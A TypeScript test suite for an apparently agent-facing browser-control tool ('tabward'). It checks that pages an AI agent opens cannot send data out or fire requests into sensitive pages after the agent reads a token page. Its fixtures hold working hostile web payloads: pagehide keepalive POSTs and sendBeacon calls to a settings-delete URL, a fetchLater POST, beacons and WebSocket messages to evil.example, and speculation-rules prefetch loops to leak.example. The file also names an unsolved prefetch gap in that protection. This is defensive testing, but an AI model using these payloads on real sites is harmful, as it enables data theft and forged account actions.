// In the user's Chrome no proxy can be given: what an agent frame sends after its own CDP session ended is judged
// at the browser-wide pause (browser/browserFetchGate.ts), and the agent's tabs do not outlive tabward's watch.
// Each class an attacker met in the user's Chrome, with an obedient agent and a human who refuses every request
// tabward did not predict: a cross-site frame's pagehide POST into a sensitive page as the page removes it during a
// harmless click, as the agent navigates its tab away, as tabward detaches or exits; a fetchLater as the agent closes
// its tab; a page already open sending what it watched after a sensitive read through a prerender of its own site.
// The user's own tabs and their requests go on as before. Assertions are on what the fixture server received.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { chromium } from 'playwright-core';
import { WebSocketServer } from 'ws';
import { startUserChrome, type UserChrome } from '../../src/demo/yourChrome.ts';
import { type Fixture, html, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
import {
  type InProcessBrowser,
  type InProcessMcp,
  sentAlthoughRefused,
  startInProcess,
} from '../helpers/inProcessMcp.ts';
import { refOf } from '../helpers/mcpClient.ts';
import { waitFor } from '../helpers/waitFor.ts';

const token = 'ghp_sharedChokeToken2718';

describe("the user's Chrome: an agent frame's requests are judged after its session ends", () => {
  let site: Fixture;
  let chrome: UserChrome;
  let tabward: InProcessBrowser | undefined;
  let mcp: InProcessMcp | undefined;
  const socketMessages: string[] = [];
  const url = (host: string, path: string) => site.url(host, path);
  const arrived = (path: string) => site.seen.filter((request) => request.path.startsWith(path));
  const quietly = (ms: number) => new Promise((done) => setTimeout(done, ms));
  // A page that starts once it is in front again, after another tab had it hidden (the agent's read): what it
  // sends is after the read, however late the server sees it.
  const backInFront = `let back = false; document.addEventListener('visibilitychange', () => { if (document.visibilityState === 'hidden') back = true; });`;
  const teardownPost = (path: string) =>
    `addEventListener('pagehide', () => fetch(${JSON.stringify(url('github.com', path))}, { method: 'POST', keepalive: true, mode: 'no-cors', body: 'teardown' })); onload = () => fetch('/ad-ready?' + ${JSON.stringify(path)})`;

  before(async () => {
    site = await startFixture(
      {
        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${token}</p>`),
        '/repo': (req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><div id="ads"><iframe src="${url('ads.example', `/ad?${new URL(req.url ?? '', 'http://x').searchParams.get('as') ?? 'x'}`)}"></iframe></div>
            <button onclick="document.getElementById('ads').remove()">Hide ads</button>`,
          ),
        '/ad': (req, _body, res) =>
          html(
            res,
            `<title>ad</title><script>${teardownPost(`/settings/delete?from=${req.url}`)}</script>ad`,
          ),
        '/nested': (_req, _body, res) =>
          html(
            res,
            `<title>Nested</title><p>readme</p><div id="ads"><iframe src="${url('ads.example', '/outer')}"></iframe></div>
            <button onclick="setTimeout(() => document.getElementById('ads').remove(), 400)">Hide ads later</button>`,
          ),
        '/outer': (_req, _body, res) =>
          html(res, `<title>outer</title><iframe src="${url('tracker.example', '/inner')}"></iframe>`),
        '/inner': (_req, _body, res) =>
          html(
            res,
            `<title>inner</title><script>addEventListener('pagehide', () => navigator.sendBeacon(${JSON.stringify(url('github.com', '/settings/delete?from=nested'))}, 'teardown')); onload = () => fetch('/inner-ready')</script>`,
          ),
        '/beaconing': (_req, _body, res) =>
          html(
            res,
            `<title>Beaconing</title><p>watching</p><script>let n = 0; setInterval(() => fetch('/beacon?n=' + n++, { mode: 'no-cors', keepalive: true }).catch(() => {}), 100)</script>`,
          ),
        '/later': (_req, _body, res) =>
          html(
            res,
            `<title>Later</title><script>try { fetchLater(${JSON.stringify(url('github.com', '/settings/delete?from=later'))}, { method: 'POST', body: 'later' }) } catch (e) { document.title = 'no fetchLater ' + e }</script>`,
          ),
        '/watch': (_req, _body, res) =>
          html(
            res,
            `<title>Watch</title><p>watching</p><script>let n = 0; ${backInFront} setInterval(() => { if (!back || document.visibilityState !== 'visible') return; n++;
            const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: ['/pre?d=' + n] }], prefetch: [{ source: 'list', urls: ['/pref?d=' + n] }] }); document.head.append(s) }, 300)</script>`,
          ),
        // The same, to another site the browser holds no cookies for: Chrome prefetches it too (measured).
        '/watch-away': (_req, _body, res) =>
          html(
            res,
            `<title>Watch away</title><p>watching</p><script>let n = 0; ${backInFront} setInterval(() => { if (!back || document.visibilityState !== 'visible') return; n++;
            const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [${JSON.stringify(url('leak.example', '/spec-away?d='))} + n] }] }); document.head.append(s) }, 300)</script>`,
          ),
        // A blank popup the page writes rules into: Chrome reports no attempt status for its document (measured),
        // only the attempts its rules ask for.
        '/watch-popup': (_req, _body, res) =>
          html(
            res,
            `<title>Watch popup</title><button id="go">Open</button><script>go.onclick = () => { const w = window.open('');
            w.document.write('<title>loop</title><script>let n = 0; setInterval(() => { n++; const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [' + ${JSON.stringify(JSON.stringify(url('leak.example', '/spec-popup?d=')))} + ' + n] }] }); document.head.append(s) }, 300)<' + '/script>'); w.document.close(); }</script>`,
          ),
        '/talking': (_req, _body, res) =>
          html(
            res,
            `<title>Talking</title><p>talking</p><script>let n = 0; const socket = new WebSocket(location.origin.replace('https', 'wss') + '/socket');
            setInterval(() => { if (socket.readyState === 1) socket.send('tick ' + n++) }, 100)</script>`,
          ),
        '/mine': (_req, _body, res) => html(res, '<title>Mine</title><p>the user’s page</p>'),
      },
      { tls: true },
    );
    const sockets = new WebSocketServer({ noServer: true });
    site.onUpgrade((req, socket, head) =>
      sockets.handleUpgrade(req, socket, head, (ws) =>
        ws.on('message', (data) => socketMessages.push(String(data))),
      ),
    );
    chrome = await startUserChrome({ chromeArgs: testChromeArgs, openTab: url('example.com', '/mine') });
  });
  after(async () => {
    await mcp?.close();
    await tabward?.close();
    await chrome?.close();
    await site?.close();
  });

  /** A tabward attached to the user's Chrome (a new one when the last was closed), a fresh call path on it. */
  async function agent(): Promise<InProcessMcp> {
    await mcp?.close();
    tabward ??= await startInProcess({ mode: 'shared', wsEndpoint: chrome.wsEndpoint });
    const fresh = await tabward.connect();
    fresh.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
    mcp = fresh;
    return fresh;
  }

  async function openRepo(agentMcp: InProcessMcp, as: string): Promise<string> {
    const opened = await agentMcp.call('new_page', { url: url('github.com', `/repo?as=${as}`) });
    assert.equal(opened.isError, false, opened.text);
    await waitFor('the ad frame runs', () => arrived(`/ad-ready?/settings/delete?from=/ad?${as}`).length > 0);
    return /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
  }

  /** The user's Chrome as the user sees it: the addresses of its tabs. */
  async function usersTabs(): Promise<string[]> {
    const browser = await chromium.connectOverCDP(chrome.wsEndpoint, { noDefaults: true });
    try {
      return browser.contexts().flatMap((context) => context.pages().map((page) => page.url()));
    } finally {
      await browser.close();
    }
  }

  test('a frame the page removes during a harmless click sends nothing into a sensitive page', async () => {
    const agentMcp = await agent();
    await openRepo(agentMcp, 'removed');
    const snapshot = await agentMcp.call('take_snapshot');
    await agentMcp.call('click', { ref: refOf(snapshot.text, 'Hide ads') });
    await quietly(1_000);
    assert.deepEqual(arrived('/settings/delete?from=/ad?removed'), []);
  });

  test('a nested cross-site frame removed after the click returned beacons nothing into a sensitive page', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('github.com', '/nested') });
    await waitFor('the inner frame runs', () => arrived('/inner-ready').length > 0);
    const snapshot = await agentMcp.call('take_snapshot');
    await agentMcp.call('click', { ref: refOf(snapshot.text, 'Hide ads later') });
    await quietly(1_500);
    assert.deepEqual(arrived('/settings/delete?from=nested'), []);
  });

  test('navigating the agent’s tab away lets no frame’s pagehide POST out', async () => {
    const agentMcp = await agent();
    await openRepo(agentMcp, 'away');
    const moved = await agentMcp.call('navigate_page', { url: url('example.org', '/mine') });
    assert.equal(moved.isError, false, moved.text);
    await quietly(1_000);
    assert.deepEqual(arrived('/settings/delete?from=/ad?away'), []);
  });

  test('after a sensitive read, a WebSocket the page opened before carries nothing more', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('evil.example', '/talking') });
    await waitFor('the page talks', () => socketMessages.length > 2);
    await agentMcp.call('new_page', { url: url('github.com', '/settings/tokens') });
    assert.match((await agentMcp.call('take_snapshot')).text, new RegExp(token));
    const messages = socketMessages.length;
    await quietly(1_000);
    assert.ok(
      socketMessages.length <= messages + 1,
      `${socketMessages.length - messages} messages after the read`,
    );
  });

  test('a fetchLater POST into a sensitive page, sent as the agent’s tab closes, never arrives', async () => {
    const agentMcp = await agent();
    const opened = await agentMcp.call('new_page', { url: url('evil.example', '/later') });
    assert.doesNotMatch(opened.text, /no fetchLater/);
    const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
    const closed = await agentMcp.call('close_page', { pageId: tab });
    assert.equal(closed.isError, false, closed.text);
    await quietly(1_000);
    assert.deepEqual(arrived('/settings/delete?from=later'), []);
  });

  // Measured on Chromium 156: a same-origin speculation-rules prefetch or prerender is fetched by the browser's
  // preloading service, which neither a tab's nor the browser's Fetch interception sees, and
  // Page.setPrerenderingAllowed does not stop it. Isolated: the egress proxy refuses it (chokePoint).
  test('after a sensitive read, a page already open prerenders or prefetches nothing of its own site', {
    todo: "residual: speculation-rules preloading in the user's Chrome is seen by no CDP hook",
  }, async () => {
    const agentMcp = await agent();
    const watching = await agentMcp.call('new_page', { url: url('evil.example', '/watch') });
    const tab = /Tab (p\d+)/.exec(watching.text)?.[1] ?? '';
    await agentMcp.call('new_page', { url: url('github.com', '/settings/tokens') });
    assert.match((await agentMcp.call('take_snapshot')).text, new RegExp(token));
    const before = arrived('/pre').length + arrived('/pref').length;
    // In front again, the page asks for a new prerender and prefetch of its own site every 300 ms.
    await agentMcp.call('select_page', { pageId: tab });
    await quietly(2_500);
    const after = [...arrived('/pre'), ...arrived('/pref')];
    assert.equal(after.length, before, after.map((request) => request.path).join(', '));
  });

  // What the residual above leaves is told: the tab's Preload domain reports each speculative load as it starts
  // (browser/speculativeLoads.ts). One that went after the read is in the audit as sent although refused, and it
  // stops the tab: what left before that is the residual, nothing leaves after it. Failed before: nothing was told
  // and the page went on (a cross-site prefetch carried what it liked to leak.example every 300 ms).
  for (const [path, where, leaks, click] of [
    ['/watch', 'of its own site', ['/pre', '/pref'], undefined],
    ['/watch-away', 'to another site', ['/spec-away'], undefined],
    ['/watch-popup', 'in a blank popup it writes them into', ['/spec-popup'], 'Open'],
  ] as const)
    test(`after a sensitive read, a page's speculative loads ${where} are told as sent although refused, and its tab is stopped`, async () => {
      const agentMcp = await agent();
      const watching = await agentMcp.call('new_page', { url: url('evil.example', path) });
      const tab = /Tab (p\d+)/.exec(watching.text)?.[1] ?? '';
      await agentMcp.call('new_page', { url: url('github.com', '/settings/tokens') });
      assert.match((await agentMcp.call('take_snapshot')).text, new RegExp(token));
      const left = () => leaks.flatMap((leak) => arrived(`${leak}?d=`)).map((request) => request.path);
      const before = left().length;
      await agentMcp.call('select_page', { pageId: tab });
      if (click)
        await agentMcp.call('click', { ref: refOf((await agentMcp.call('take_snapshot')).text, click) });
      const told = () => sentAlthoughRefused(agentMcp.audit());
      await waitFor(
        'the speculative load is told',
        () => told().some((told) => leaks.some((leak) => told.includes(`${leak}?d=`))),
        {
          timeoutMs: 10_000,
        },
      );
      await quietly(1_000);
      const stopped = left().length;
      await quietly(1_500);
      assert.equal(
        left().length,
        stopped,
        `more left after the tab was stopped: ${left().slice(stopped).join(', ')}`,
      );
      // Each told: a second one before the stop (a loaded machine) is told when its 5 s window ends (stopsTold.ts).
      const untold = () =>
        left()
          .slice(before)
          .filter((arrival) => !told().some((each) => each.endsWith(arrival)));
      await waitFor('every speculative load that left told', () => untold().length === 0 || undefined, {
        timeoutMs: 8_000,
      }).catch(() => undefined);
      for (const arrival of untold())
        assert.fail(`${arrival} left, and the audit does not say so: ${told().join(' | ')}`);
      // The tab that made them is stopped (the popup, where the page wrote them).
      if (!click)
        assert.match((await agentMcp.call('take_snapshot', { pageId: tab })).text, /crashed|stopped|closed/i);
    });

  /** An agent tab of another site beaconing home every 100 ms, and then a sensitive read: from then on it may not. */
  async function beaconingAfterRead(agentMcp: InProcessMcp): Promise<() => number> {
    await agentMcp.call('new_page', { url: url('evil.example', '/beaconing') });
    await waitFor('the page beacons', () => arrived('/beacon').length > 2);
    await agentMcp.call('new_page', { url: url('github.com', '/settings/tokens') });
    assert.match((await agentMcp.call('take_snapshot')).text, new RegExp(token));
    await quietly(300);
    const before = arrived('/beacon').length;
    return () => arrived('/beacon').length - before;
  }

  test('detaching closes the agent’s tabs, lets none of their frames post or beacon, and leaves the user’s tabs', async () => {
    const agentMcp = await agent();
    await openRepo(agentMcp, 'detach');
    const beaconsSince = await beaconingAfterRead(agentMcp);
    const detached = await agentMcp.call('browser_disconnect');
    assert.equal(detached.isError, false, detached.text);
    assert.match(detached.text, /agent's tabs .*closed/);
    await quietly(1_000);
    assert.deepEqual(arrived('/settings/delete?from=/ad?detach'), []);
    assert.ok(beaconsSince() <= 1, `${beaconsSince()} beacons after the read, the last after the detach`);
    const tabs = await usersTabs();
    assert.ok(
      tabs.some((address) => address.includes('/mine')),
      `the user's tab stays: ${tabs.join(', ')}`,
    );
    assert.ok(
      !tabs.some((address) => /\/repo|\/beaconing/.test(address)),
      `the agent's tabs went: ${tabs.join(', ')}`,
    );
  });

  test('tabward exiting leaves no agent tab sending what it saw, and leaves the user’s tabs', async () => {
    const agentMcp = await agent();
    await openRepo(agentMcp, 'exit');
    const beaconsSince = await beaconingAfterRead(agentMcp);
    await tabward?.close();
    tabward = undefined;
    await agentMcp.close();
    mcp = undefined;
    await quietly(1_000);
    assert.deepEqual(arrived('/settings/delete?from=/ad?exit'), []);
    assert.ok(beaconsSince() <= 1, `${beaconsSince()} beacons after the read, the last after tabward exited`);
    const tabs = await usersTabs();
    assert.ok(
      tabs.some((address) => address.includes('/mine')),
      tabs.join(', '),
    );
  });
});

// A remote browser (a CDP endpoint tabward connects to) has no proxy either: the same browser-wide gate, over the
// context tabward opens there.
describe('a remote browser: an agent frame’s requests are judged after its session ends', () => {
  let site: Fixture;
  let remote: UserChrome;
  let tabward: InProcessBrowser;
  let mcp: InProcessMcp;
  const arrived = (path: string) => site.seen.filter((request) => request.path.startsWith(path));

  before(async () => {
    const url = (host: string, path: string) => site.url(host, path);
    site = await startFixture(
      {
        '/repo': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><div id="ads"><iframe src="${url('ads.example', '/ad')}"></iframe></div>
            <button onclick="document.getElementById('ads').remove()">Hide ads</button>`,
          ),
        '/ad': (_req, _body, res) =>
          html(
            res,
            `<title>ad</title><script>addEventListener('pagehide', () => fetch(${JSON.stringify(url('github.com', '/settings/delete?from=remote'))}, { method: 'POST', keepalive: true, mode: 'no-cors', body: 'teardown' })); onload = () => fetch('/ad-ready')</script>ad`,
          ),
        '/later': (_req, _body, res) =>
          html(
            res,
            `<title>Later</title><script>try { fetchLater(${JSON.stringify(url('github.com', '/settings/delete?from=later'))}, { method: 'POST', body: 'later' }) } catch (e) { document.title = 'no fetchLater ' + e }</script>`,
          ),
      },
      { tls: true },
    );
    remote = await startUserChrome({ chromeArgs: testChromeArgs });
    tabward = await startInProcess({ mode: 'remote', wsEndpoint: remote.wsEndpoint });
    mcp = await tabward.connect();
    mcp.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
  });
  after(async () => {
    await mcp?.close();
    await tabward?.close();
    await remote?.close();
    await site?.close();
  });

  test('a frame the page removes during a harmless click sends nothing into a sensitive page', async () => {
    await mcp.call('new_page', { url: site.url('github.com', '/repo') });
    await waitFor('the ad frame runs', () => arrived('/ad-ready').length > 0);
    await mcp.call('click', { ref: refOf((await mcp.call('take_snapshot')).text, 'Hide ads') });
    await new Promise((done) => setTimeout(done, 1_000));
    assert.deepEqual(arrived('/settings/delete?from=remote'), []);
  });

  test('a fetchLater POST into a sensitive page, sent as the agent’s tab closes, never arrives', async () => {
    const opened = await mcp.call('new_page', { url: site.url('evil.example', '/later') });
    assert.doesNotMatch(opened.text, /no fetchLater/);
    const closed = await mcp.call('close_page', { pageId: /Tab (p\d+)/.exec(opened.text)?.[1] ?? '' });
    assert.equal(closed.isError, false, closed.text);
    await new Promise((done) => setTimeout(done, 1_000));
    assert.deepEqual(arrived('/settings/delete?from=later'), []);
  });
});
